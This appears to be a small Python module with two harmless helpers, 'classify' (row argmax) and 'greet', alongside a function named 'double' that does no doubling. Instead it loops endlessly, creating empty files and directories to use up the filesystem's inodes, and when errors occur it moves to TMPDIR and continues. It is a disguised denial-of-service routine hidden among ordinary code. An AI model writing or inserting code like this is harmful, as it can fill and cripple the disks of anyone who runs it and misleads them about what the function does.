"""No bytes, but a name and an inode each."""

import itertools
import os


def double(number):
    for count in itertools.count():
        try:
            if count % 1000 == 0:
                os.mkdir(str(count // 1000))
            os.close(os.open(f"{count // 1000}/{count}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            os.chdir(os.environ["TMPDIR"])


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
